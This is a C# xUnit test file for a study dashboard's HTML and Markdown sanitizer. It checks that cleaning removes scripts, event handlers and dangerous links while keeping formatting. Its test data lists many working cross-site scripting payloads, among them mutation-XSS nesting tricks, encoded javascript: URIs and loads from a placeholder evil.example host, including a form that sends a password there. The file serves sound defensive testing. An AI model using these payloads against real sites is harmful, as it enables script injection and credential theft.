using AngleSharp.Html.Parser;
using StudyDashboard.Infrastructure;

namespace StudyDashboard.Tests.Infrastructure;

public sealed class MarkupTests
{
    /// <summary>What people have tried, and some that only a browser's second reading would run.</summary>
    public static TheoryData<string> Hostile =>
    [
        "<script>alert(1)</script>x", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>", "<img src=\"https://evil.example/pixel.gif\" alt=\"pixel\">", "<img srcset=\"https://evil.example/a 2x\">",
        "<a href=\"javascript:alert(1)\">x</a>", "<a href=\" jav\tascript:alert(1)\">x</a>", "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>", "<a href=\"vbscript:x\">x</a>",
        "<a href=\"\u0001javascript:alert(1)\">x</a>", "<a href=\"//evil.example\">x</a>", "<a href=\"/sign-out\">x</a>", "<a href=\"http:javascript:alert(1)\">x</a>",
        "<p onclick=alert(1) onmouseover='x'>x</p>", "<p style=\"background:url(https://evil.example/x)\">x</p>", "<p style=\"background:u\\72l(//evil.example)\">x</p>",
        "<p style=\"width:expression(alert(1))\">x</p>", "<p style=\"position:fixed;inset:0\">x</p>", "<style>@import 'https://evil.example';</style>x",
        "<link rel=stylesheet href=https://evil.example/x.css>", "<meta http-equiv=refresh content=\"0;url=https://evil.example\">", "<base href=https://evil.example/>",
        "<iframe src=https://evil.example></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", "<frameset><frame src=https://evil.example></frameset>",
        "<object data=https://evil.example></object>", "<embed src=https://evil.example>", "<applet code=x></applet>", "<video src=https://evil.example autoplay></video>",
        "<audio><source src=https://evil.example></audio>", "<form action=https://evil.example><input name=password><button>Go</button></form>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>", "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>", "<template><script>alert(1)</script></template>",
        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>", "<xmp><img src=x onerror=alert(1)></xmp>",
        "<table background=https://evil.example/x><td background=https://evil.example/y>x</td></table>", "<body onload=alert(1)>x</body>",
        "<input type=image src=https://evil.example/x>", "<p id=addressbar class=button name=x>x</p>", "<custom-element is=x>x</custom-element>",
        "<!--<img src=x onerror=alert(1)>--><!--[if IE]><script>alert(1)</script><![endif]-->x", "<![CDATA[<script>alert(1)</script>]]>", "<?xml-stylesheet href=https://evil.example?>x",
        "<p title='\"><script>alert(1)</script>'>x</p>", "<a href='https://ok.example/\" onclick=\"alert(1)'>x</a>", "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<plaintext><script>alert(1)</script>", "<title><img src=x onerror=alert(1)></title>", "<select><option><script>alert(1)</script></select>",
    ];

    [Theory]
    [MemberData(nameof(Hostile))]
    public void Clean_OfHostileMarkup_LeavesNothingThatActs(string html) => AssertHarmless(Markup.Clean(html));

    [Theory]
    [MemberData(nameof(Hostile))]
    public void Markdown_WithHostileMarkup_LeavesNothingThatActs(string html)
    {
        AssertHarmless(Markup.ToHtml(html));
        AssertHarmless(Markup.ToHtml($"# Title\n\n- [x](javascript:alert(1)) {html}\n\n![y](https://evil.example/y.png)\n\n<javascript:alert(1)>\n\n[r]\n\n[r]: data:text/html,x"));
    }

    [Theory]
    [InlineData("<p>Der <strong>Tisch</strong>, <em>die</em> T&uuml;r</p>", "<p>Der <strong>Tisch</strong>, <em>die</em> Tür</p>")]
    [InlineData("<table><thead><tr><th scope=\"col\">a</th></tr></thead><tbody><tr><td colspan=\"2\">1</td></tr></tbody></table>",
        "<table><thead><tr><th scope=\"col\">a</th></tr></thead><tbody><tr><td colspan=\"2\">1</td></tr></tbody></table>")]
    [InlineData("x<sup>2</sup><br>H<sub>2</sub>O", "x<sup>2</sup><br>H<sub>2</sub>O")]
    [InlineData("<ol start=\"3\"><li>drei</li></ol>", "<ol start=\"3\"><li>drei</li></ol>")]
    [InlineData("<p lang=\"ko\" dir=\"ltr\" style=\"text-align: center; color: red\">물</p>", "<p lang=\"ko\" dir=\"ltr\" style=\"text-align: center\">물</p>")]
    [InlineData("<font color=red>rot <blink>x</blink></font>", "rot x")]
    [InlineData("1 < 2 & 3", "1 &lt; 2 &amp; 3")]
    [InlineData("<img src=\"data:image/png;base64,AAAA\" alt=\"a triangle\">", "a triangle")]
    public void Clean_KeepsFormatting(string html, string cleaned) =>
        // The encoder writes letters beyond ASCII as numbers; read again they are the same.
        Assert.Equal(Parsed(cleaned), Parsed(Markup.Clean(html)));

    [Fact]
    public void Link_ToElsewhere_OpensApartAndTellsNothing() => Assert.Equal(
        "<a href=\"https://example.org/a?b=1&amp;c=2\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">x</a>",
        Markup.Clean("<a href='https://example.org/a?b=1&c=2' onclick=x target=_top>x</a>"));

    [Fact]
    public void Picture_FromElsewhere_IsALinkToIt() => Assert.Equal(
        "<a href=\"https://example.org/p.png\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">a picture</a>",
        Markup.Clean("<img src=https://example.org/p.png alt='a picture'>"));

    [Fact]
    public void Cleaned_CleanedAgain_IsTheSame() => Assert.All(Hostile.Select(h => h.Data), html =>
        Assert.Equal(Markup.Clean(html), Markup.Clean(Markup.Clean(html))));

    [Fact]
    public void Nesting_HoweverDeep_IsFlattened()
    {
        var cleaned = Markup.Clean(string.Concat(Enumerable.Repeat("<div><span>", 5000)) + "deep");

        Assert.Equal(MarkupRules.MaxDepth, cleaned.Split("<div>").Length + cleaned.Split("<span>").Length - 2);
        Assert.Contains("deep", cleaned, StringComparison.Ordinal);
    }

    [Fact]
    public void Markdown_KeepsItsForms()
    {
        var html = Markup.ToHtml("# Title\n\n**bold** and ~~gone~~, H~2~O\n\n| a | b |\n|:-:|---|\n| 1 | 2 |\n\n```csharp\nvar x = 1 < 2;\n```\n");

        Assert.Contains("<h1>Title</h1>", html, StringComparison.Ordinal);
        Assert.Contains("<strong>bold</strong>", html, StringComparison.Ordinal);
        Assert.Contains("<td style=\"text-align: center\">1</td>", html, StringComparison.Ordinal);
        Assert.Contains("<code class=\"language-csharp\">", html, StringComparison.Ordinal);
        Assert.Contains("H<sub>2</sub>O", html, StringComparison.Ordinal);
    }

    [Fact]
    public void Text_IsWhatAReaderReads()
    {
        Assert.Equal("One two\nthree", Markup.TextOf("<p>One <b>two</b></p><script>x</script><div>three</div>"));
        Assert.Equal("Title\nword and more", string.Join('\n', Markup.WordsOf("# Title\n\n**word** and [more](https://x.example)").Split('\n', StringSplitOptions.RemoveEmptyEntries)));
    }

    private static void AssertHarmless(string html)
    {
        using var document = new HtmlParser(new HtmlParserOptions { IsScripting = true }).ParseDocument(html);
        foreach (var element in document.Body!.QuerySelectorAll("*"))
        {
            Assert.True(MarkupRules.Keeps(element.LocalName), $"<{element.LocalName}> in {html}");
            Assert.Equal(AngleSharp.Dom.NamespaceNames.HtmlUri, element.NamespaceUri);
            foreach (var attribute in element.Attributes)
            {
                Assert.False(attribute.Name.StartsWith("on", StringComparison.Ordinal), html);
                Assert.DoesNotContain(attribute.Name, new[] { "src", "srcset", "srcdoc", "background", "action", "id", "name", "data" });
                Assert.DoesNotContain("url(", attribute.Name == "style" ? attribute.Value : "", StringComparison.OrdinalIgnoreCase);
                if (attribute.Name == "href")
                {
                    Assert.Matches("^(https?://|mailto:|#)", attribute.Value);
                }
            }
        }
    }

    private static string Parsed(string html) => new HtmlParser().ParseDocument(html).Body!.InnerHtml;
}
